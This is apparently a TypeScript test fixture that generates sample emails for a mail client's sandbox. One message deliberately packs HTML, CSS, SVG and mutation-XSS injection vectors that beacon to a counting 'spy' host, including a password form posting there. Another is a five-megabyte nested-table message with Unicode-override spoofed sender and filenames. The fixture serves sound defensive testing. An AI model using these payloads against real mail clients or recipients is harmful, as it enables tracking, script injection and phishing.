import { letter } from '../../sandbox/letter.js';

/**
 * Mail for the demo and the run: plain, HTML with pictures, an answer, attachments, and a hostile one. `spy` is an
 * address that counts requests. Grace is the second user of the sandbox, so that she can be answered.
 */
export function corpus(to: string, counting?: string): { content: Buffer | string; flags?: string[]; at: number }[] {
  const spy = counting ?? 'http://127.0.0.1:9';
  const now = Date.now();
  const hour = 3_600_000;
  const html = (name: string, subject: string, body: string, plain?: string, extra = '') =>
    [
      `From: ${name} <${name.toLowerCase().replace(' ', '.')}@example.com>`,
      `To: ${to}`,
      `Subject: ${subject}`,
      `Date: ${new Date(now - 2 * hour).toUTCString()}`,
      `Message-ID: <${subject.replace(/\W/g, '')}@example.com>`,
      'MIME-Version: 1.0',
      ...(plain === undefined
        ? ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit', '', body]
        : [
            'Content-Type: multipart/alternative; boundary=b1',
            '',
            '--b1',
            'Content-Type: text/plain; charset=utf-8',
            '',
            plain,
            '--b1',
            'Content-Type: text/html; charset=utf-8',
            '',
            body,
            '--b1--',
            '',
          ]),
      extra,
    ].join('\r\n');
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  const files = [
    'From: Grace Field <u1@test.local>',
    `To: ${to}`,
    'Subject: Figures of the third quarter',
    `Date: ${new Date(now - 26 * hour).toUTCString()}`,
    'Message-ID: <figures@example.com>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b2',
    '',
    '--b2',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Hello Ann,\r\n\r\nthe figures are attached, with a picture of the trend.\r\nPlease check row 14 before Friday.\r\n\r\nGrace',
    '--b2',
    'Content-Type: text/csv; name="figures.csv"',
    'Content-Disposition: attachment; filename="figures.csv"',
    '',
    'month,messages\r\nJuly,120\r\nAugust,154',
    '--b2',
    'Content-Type: image/png; name="trend.png"',
    'Content-Disposition: attachment; filename="trend.png"',
    'Content-Transfer-Encoding: base64',
    '',
    dot,
    '--b2--',
    '',
  ].join('\r\n');
  return [
    {
      content: letter({
        to,
        from: 'Tom Miller <tom.miller@example.com>',
        subject: 'Lunch on Thursday?',
        text: 'Hi Ann,\n\nthe place at the corner has a new menu. Thursday at noon?\n\nTom',
      } as never),
      at: now - 30 * hour,
      flags: ['\\Seen'],
    },
    { content: files, at: now - 26 * hour },
    {
      content: html(
        'News Letter',
        'This week in mail',
        `<style>h1{color:#2b4c7e}.c{padding:12px;background:#eef3fa}</style><h1>This week in mail</h1><p class="c">Three things you should <b>know</b>, and <a href="https://example.com/read?id=1">one to read</a>.</p><img src="${spy}/pixel.png" width="200" height="40"><table border="1" cellpadding="6"><tr><th>Day</th><th>Messages</th></tr><tr><td>Monday</td><td>120</td></tr></table>`,
        'This week in mail: three things you should know.',
      ),
      at: now - 2 * hour,
    },
    { content: html('Mallory Evil', 'You have won', hostile(spy)), at: now - hour },
    ...(counting === undefined ? [] : [{ content: tables(to, spy), at: now - 40 * hour }]),
  ];
}

/**
 * Five megabytes of tables in tables, in which pictures hide; subject, sender and file turn the letters that follow.
 */
function tables(to: string, spy: string): string {
  const word = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
  const nest = `${'<table border=1><tr><td>'.repeat(300)}<img src="${spy}/nested">deep${'</td></tr></table>'.repeat(300)}`;
  const wide = `<table>${`<tr>${'<td style="color:red">cell</td>'.repeat(20)}</tr>`.repeat(200)}</table>`;
  let body = '';
  while (body.length < 5_000_000)
    body += `${nest}${wide}${'<table><tr><td>'.repeat(2000)}<b>\u202eneppo reven\u202c</b>\r\n`;
  return [
    `From: ${word('Bank\u202e\u2066moc.knab')} <clerk@evil.example>`,
    `To: ${to}`,
    `Subject: ${word('Quarterly table \u202efdp\u2069')}`,
    `Date: ${new Date(Date.now() - 40 * 3_600_000).toUTCString()}`,
    'Message-ID: <tables@example.com>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=t1',
    '',
    '--t1',
    'Content-Type: multipart/alternative; boundary=t2',
    '',
    '--t2',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'The same in plain text.',
    '--t2',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(body).toString('base64').replace(/.{76}/g, '$&\r\n'),
    '--t2--',
    '--t1',
    `Content-Type: application/octet-stream; name="${word('report\u202efdp.exe')}"`,
    `Content-Disposition: attachment; filename="${word('report\u202efdp.exe')}"`,
    'Content-Transfer-Encoding: base64',
    '',
    'TVo=',
    '--t1--',
    '',
  ].join('\r\n');
}

/** A message that tries everything: nothing of it may run, and nothing may be fetched. */
export const hostile = (spy: string): string => `
<html><head><base href="${spy}/base/"><meta http-equiv="refresh" content="0;url=${spy}/refresh"><link rel="stylesheet" href="${spy}/link.css"><style>@import url("${spy}/import.css"); body{background:url(${spy}/css-background)} @font-face{font-family:x;src:url(${spy}/font)} p{font-family:x} .a{background-image:u\\72l(${spy}/escaped)} .b{background:/**/url(/**/"${spy}/comment")}</style>
<script src="${spy}/script.js"></script><script>document.title='owned';new Image().src='${spy}/inline-script'</script></head>
<body onload="new Image().src='${spy}/onload'" background="${spy}/body-background"><p>You have won. <b>Claim it.</b></p>
<img src="${spy}/pixel.gif" srcset="${spy}/srcset 2x" onerror="new Image().src='${spy}/onerror'"><img src="x" onerror="new Image().src='${spy}/onerror2'"><img src="//${spy.replace(/^https?:\/\//, '')}/protocol-relative">
<a href="javascript:new Image().src='${spy}/js-link'">Click</a> <a href="  JaVaScRiPt:alert(1)">Click two</a> <a href="data:text/html,<script>fetch('${spy}/data')</script>">Click three</a> <a href="https://xn--pypl-53d.example/login" ping="${spy}/ping">paypal.example</a>
<svg xmlns="http://www.w3.org/2000/svg" onload="new Image().src='${spy}/svg-onload'"><image href="${spy}/svg-image"/><use href="${spy}/svg-use#a"/><script>new Image().src='${spy}/svg-script'</script><foreignObject><iframe src="${spy}/svg-frame"></iframe></foreignObject></svg>
<math><mtext><style><img src="${spy}/mxss" onerror="new Image().src='${spy}/mxss2'"></style></mtext></math>
<form action="${spy}/form" method="post"><input name="password"><button autofocus formaction="${spy}/formaction">Log in</button></form><iframe src="${spy}/frame"></iframe><iframe srcdoc="<script>new Image().src='${spy}/srcdoc'</script>"></iframe><object data="${spy}/object"></object><embed src="${spy}/embed">
<video poster="${spy}/poster" src="${spy}/video" autoplay></video><audio src="${spy}/audio" autoplay></audio><table background="${spy}/table-background"><tr><td style="background:url('${spy}/style-attribute')">cell</td></tr></table>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:image-set('${spy}/image-set' 1x)">cover</div><input type="image" src="${spy}/input-image"><details open ontoggle="new Image().src='${spy}/toggle'"><summary>x</summary></details>
<p>\u202Etxt.exe\u202C moc.elpmaxe \u2066hidden\u2069</p><template><img src="${spy}/template"></template><noscript><img src="${spy}/noscript"></noscript><textarea><img src="${spy}/textarea"></textarea><!--[if mso]><img src="${spy}/mso"><![endif]--><xmp><img src="${spy}/xmp"></xmp></body></html>`;
